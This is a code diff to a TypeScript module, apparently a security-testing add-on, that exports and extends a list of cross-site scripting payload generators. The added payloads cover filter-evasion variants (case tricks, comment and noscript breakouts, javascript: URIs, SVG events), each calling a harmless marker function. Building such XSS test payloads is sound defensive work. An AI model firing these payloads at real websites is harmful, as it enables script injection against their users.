@@ -1,7 +1,7 @@
 import type { AddOn } from '../support/add-on';
 
 /** Ways to have a text run when it is shown as markup; each tells its number when it does. */
-const ways: readonly ((number: number) => string)[] = [
+export const ways: readonly ((number: number) => string)[] = [
   (n) => `<img src=x onerror=hit(${n})>`,
   (n) => `<svg onload=hit(${n})>`,
   (n) => `<script>hit(${n})</script>`,
@@ -22,6 +22,26 @@ const ways: readonly ((number: number) => string)[] = [
   (n) => `javascript:hit(${n})`,
   (n) => `{{constructor.constructor('hit(${n})')()}}`,
   (n) => `\${hit(${n})}`,
+  (n) => `<IMG SRC=x oNeRrOr="hit(${n})">`,
+  (n) => `<img/src=x/onerror=hit(${n})>`,
+  (n) => `<svg><script>hit(${n})</script></svg>`,
+  (n) => `<svg><animate onbegin=hit(${n}) attributeName=x dur=1s>`,
+  (n) => `<marquee onstart=hit(${n})>`,
+  (n) => `<object data="javascript:hit(${n})"></object>`,
+  (n) => `<embed src="javascript:hit(${n})">`,
+  (n) => `<form action="javascript:hit(${n})"><button autofocus>send</button></form>`,
+  (n) => `<select autofocus onfocus=hit(${n})></select>`,
+  (n) => `</title><audio src=x onerror=hit(${n})>`,
+  (n) => `<link rel=stylesheet href=x onerror=hit(${n})>`,
+  (n) => `<noscript><p title="</noscript><img src=x onerror=hit(${n})>">`,
+  (n) => `<!--><img src=x onerror=hit(${n})>-->`,
+  (n) => `]]><img src=x onerror=hit(${n})>`,
+  (n) => `&lt;img src=x onerror=hit(${n})&gt;`,
+  (n) => `\\u003cimg src=x onerror=hit(${n})\\u003e`,
+  (n) => `<a href="data:text/html,<script>parent.hit(${n})</script>">click</a>`,
+  (n) => `<iframe src="javascript:parent.hit(${n})"></iframe>`,
+  (n) => `<meta http-equiv=refresh content="0;url=javascript:hit(${n})">`,
+  (n) => `<template shadowrootmode=open><img src=x onerror=hit(${n})></template>`,
 ];
 
 /** A text of its own for each place; `sign` is how it is found again where it is shown. */
